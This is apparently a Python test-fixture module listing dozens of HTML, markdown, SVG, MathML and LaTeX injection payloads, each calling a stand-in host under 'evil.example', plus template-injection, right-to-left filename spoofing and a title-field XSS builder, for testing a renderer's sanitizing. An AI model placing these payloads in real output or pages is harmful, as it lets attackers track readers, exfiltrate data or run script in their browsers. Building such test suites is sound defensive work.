"""What somebody might write to call out from a reader's browser, or to act in it.

Each piece names a host of its own under `evil.example`, so that a request tells which of them came through.
"""

HOST = "evil.example"

# `EVIL` stands for "//<name of the piece>.evil.example".
_PIECES = {
    "picture": "![a](https:EVIL/a.png)",
    "picture-plain": "![a](http:EVIL/a.png 'title')",
    "picture-of-no-scheme": "![a](EVIL/a.png)",
    "picture-in-brackets": "![a](<https:EVIL/a b.png>)",
    "picture-as-link": "[![a](https:EVIL/a.png)](https:EVIL/)",
    "picture-by-reference": "![a][full]\n\n[full]: https:EVIL/a.png",
    "picture-collapsed": "![short][]\n\n[short]: https:EVIL/a.png",
    "picture-shortcut": "![alone]\n\n[alone]: <https:EVIL/a.png> 'title'",
    "picture-in-table": "| a |\n|---|\n| ![a](https:EVIL/a.png) |",
    "picture-in-list": "- one\n  ![a](https:EVIL/a.png)",
    "img": "<img src='https:EVIL/a.png' onerror='__pwned=1' onload='__pwned=1'>",
    "img-late": '<img loading="eager" src=EVIL/a.png>',
    "srcset": '<img srcset="https:EVIL/a.png 1x, https:EVIL/b.png 2x" alt>',
    "picture-tag": "<picture><source srcset='https:EVIL/a.webp'><img src='https:EVIL/a.png'></picture>",
    "video": "<video autoplay preload=auto poster='https:EVIL/p.png' src='https:EVIL/v.webm'></video>",
    "audio": "<audio autoplay><source src='https:EVIL/a.ogg'><track default src='https:EVIL/t.vtt'></audio>",
    "iframe": "<iframe src='https:EVIL/'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='https:EVIL/a.png'><script>top.__pwned=1</script>\"></iframe>",
    "object": "<object data='https:EVIL/o.svg' type='image/svg+xml'></object>",
    "embed": "<embed src='https:EVIL/e.svg'>",
    "stylesheet": "<link rel=stylesheet href='https:EVIL/s.css'>",
    "preload": "<link rel=preload as=image href='https:EVIL/a.png'><link rel=prefetch href='https:EVIL/'>",
    "preconnect": "<link rel=preconnect href='https:EVIL/'><link rel=icon href='https:EVIL/i.png'>",
    "modulepreload": "<link rel=modulepreload href='https:EVIL/m.js'><script type=module src=EVIL/n.js></script>",
    "refresh": "<meta http-equiv=refresh content='0;url=https:EVIL/'>",
    "form": "<form action='https:EVIL/'><input name=q autofocus onfocus=form.submit()><button>Go</button></form>",
    "input": "<input type=image src='https:EVIL/i.png'>",
    "style": "<style>@import 'https:EVIL/s.css'; body { background: url(https:EVIL/b.png) }</style>",
    "style-attribute": "<p style=\"position:fixed;background:url('https:EVIL/b.png')\">x</p>",
    "background": "<table background='https:EVIL/b.png'><tr><td background='https:EVIL/c.png'>x</table>",
    "svg": "<svg onload=__pwned=1><image href='https:EVIL/a.png'/><use href='https:EVIL/u.svg#a'/></svg>",
    "svg-old": "<svg><image xlink:href='https:EVIL/a.png'/><script href='https:EVIL/s.js'/></svg>",
    "foreign": "<svg><foreignObject><img src='https:EVIL/a.png'></foreignObject></svg>",
    "mathml": "<math href='https:EVIL/'><mi xlink:href='javascript:__pwned=1'>x</mi><mglyph src=EVIL/g.png /></math>",
    "noscript": "<noscript><p title='</noscript><img src=https:EVIL/a.png onerror=__pwned=1>'>",
    "latex": r"$\href{https:EVIL/}{x} \includegraphics{https:EVIL/a.png} \text{<img src=https:EVIL/a.png>}$",
    "script": "<script>__pwned=1;fetch('https:EVIL/')</script><script src='https:EVIL/s.js'></script>",
    "javascript": "[x](javascript:__pwned=1) [x](java&#10;script:__pwned=1) <a href='javascript:__pwned=1'>x</a>",
    "data": "[x](data:text/html,<script>__pwned=1</script>) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "links": "<https:EVIL/a> https:EVIL/b www.evil.example [words](https:EVIL/c) [r][link]\n\n[link]: https:EVIL/",
    "ping": "<a href='https:EVIL/' ping='https:EVIL/ping' target=_top>x</a>",
    "youtube": "[film](https://www.youtube.com/watch?v=dQw4w9WgXcQ) <https://youtu.be/dQw4w9WgXcQ>",
    "toggle": "<details open ontoggle=__pwned=1><summary>x</summary></details><marquee onstart=__pwned=1>x</marquee>",
    "base": "<base href='https:EVIL/'><a href=relative>x</a>",
    "template": "<template shadowrootmode=open><img src='https:EVIL/a.png'></template>",
    "fence": "```\"><img src='https:EVIL/a.png'>\n<img src='https:EVIL/b.png'>\n```",
    "close": "</div></article></main></template><img src='https:EVIL/a.png'><!-- <img src='https:EVIL/b.png'> -->",
    # The last, since in a browser's eyes they take in what follows.
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=https:EVIL/a.png&gt;'>",
    "dangling": "<img alt='x' src='https:EVIL/?",
}
MARKUP = {name: text.replace("EVIL", f"//{name}.{HOST}") for name, text in _PIECES.items()}
TEXT = "\n\n".join([*MARKUP.values()])

# In templates, spreadsheets and from right to left these say something.
_SIGNS = "=1+1 {{7+7}} {% now 'Y' %} ${7+7} \u200bzero\u200d\u202egnp.exe"


def name(place: str) -> str:
    """For something with a name or title of one line. It begins with the place in brackets."""
    attack = f"\"'><img src=//{place}.{HOST} onerror=__pwned=1><script>alert(__pwned=1)</script></title></textarea>"
    return f"[{place}]{attack}{_SIGNS}"
